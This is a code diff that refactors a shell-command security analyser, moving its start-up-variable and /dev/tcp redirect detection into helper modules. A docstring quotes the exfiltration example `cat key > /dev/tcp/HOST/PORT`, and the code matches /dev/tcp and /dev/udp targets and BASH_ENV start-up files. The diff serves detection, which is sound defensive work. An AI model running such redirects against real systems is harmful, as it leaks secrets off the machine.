@@ -22,16 +22,14 @@ from .._model import CommandRecord, Position, Span
 from .._syntax import Origin, ast
 from ..programs.sending import SENDERS
 from ._contexts import (
-    STARTUP_VARIABLES,
     contexts_of,
     record_writes,
     run_written,
+    startup_assignments,
     startup_code,
     wrapper_code,
     xargs_piped_code,
 )
-from ._normalize import normalize_word
-from ._paths import literal_prefix
 from ._resolve import (
     CommandName,
     changed_directory,
@@ -49,6 +47,7 @@ from ._resolve import (
 )
 from ._risks import NO_RISKS, PRODUCES_UNTRUSTED_DATA, command_risks
 from ._secret_search import Written, writes_files
+from ._secrets import socket_targets
 from ._state import Frame, WrittenScript
 from ._subjects import (
     Arg,
@@ -210,7 +209,7 @@ class Walker(WordWalker):
         if feeders is not None:
             feeders.update(dict.fromkeys(each for each in name.names if each))
         if argv:
-            for variable, value in _startup_assignments(node, unwrapped):
+            for variable, value in startup_assignments(node, unwrapped):
                 risks = risks | startup_code(self, variable, value, node.span, frame, stdin)
         for command_argv in commands_run(argv, index, unwrapped, stdin, env):
             if self.reporting:
@@ -228,26 +227,11 @@ class Walker(WordWalker):
 
     def redirect_senders(self, node: ast.SimpleCommand, frame: Frame) -> None:
         """`cat key > /dev/tcp/HOST/PORT`: a redirect that sends the command's output over the network."""
-        for redirect in node.redirects:
-            target_word = redirect.target
-            if (
-                target_word is None
-                or redirect.fd not in (None, "1")
-                or not redirect.operator.startswith((">", "&>"))
-                # The common case, a literal file (`> out.txt`), is ruled out before normalising it.
-                or not target_word.parts
-                or (type(target_word.parts[0]) is ast.Literal and not target_word.parts[0].text.startswith("/dev/"))
-            ):
-                continue
-            for target in normalize_word(target_word, frame.env):
-                known = target.value if target.value is not None else literal_prefix(target)
-                if known.startswith(("/dev/tcp/", "/dev/udp/")):
-                    state = self.state
-                    flow = self.config.secrets.redirect_sender(
-                        node, target, frame.location, frame.env, frame.stdin, state.view()
-                    )
-                    if flow is not None:
-                        self.sink.flow(flow)
+        secrets = self.config.secrets
+        for target in socket_targets(node.redirects, frame.env):
+            flow = secrets.redirect_sender(node, target, frame.location, frame.env, frame.stdin, self.state.view())
+            if flow is not None:
+                self.sink.flow(flow)
 
     def run_command(
         self,
@@ -355,9 +339,8 @@ class Walker(WordWalker):
         """Walk the code a command runs: its wrappers' code, xargs's command lines, its execution
         contexts and a function of this string it calls."""
         risks = NO_RISKS
-        wrappers = ()
+        wrappers = unwrapped.wrappers if unwrapped is not None else ()
         if unwrapped is not None:
-            wrappers = unwrapped.wrappers
             found = wrapper_code(unwrapped, runs_command, span, frame, stdin, self)
             if found:
                 risks = risks | found
@@ -504,21 +487,3 @@ class Walker(WordWalker):
         if self.reporting:
             location = frame.nested_code(label, frame.env).location
             self.sink.redirect(RedirectSubject(operator, None, target, span, None, location, self.state.cwd))
-
-
-def _startup_assignments(node: ast.SimpleCommand, unwrapped: Unwrapped | None) -> list[tuple[str, ast.Word]]:
-    """`BASH_ENV=FILE cmd`, `env ENV=FILE cmd`: the start-up file set for the shells the command starts."""
-    found = [
-        (assignment.name, assignment.value)
-        for assignment in node.assignments
-        if assignment.name in STARTUP_VARIABLES and assignment.value is not None and assignment.subscript is None
-    ]
-    for arg in unwrapped.assignments if unwrapped is not None else ():
-        first = arg.word.parts[0] if arg.word is not None and arg.word.parts else None
-        if type(first) is not ast.Literal or arg.word is None:
-            continue
-        variable, _, rest = first.text.partition("=")
-        if variable in STARTUP_VARIABLES:
-            parts = ((first._replace(text=rest),) if rest else ()) + arg.word.parts[1:]
-            found.append((variable, arg.word._replace(parts=parts)))
-    return found
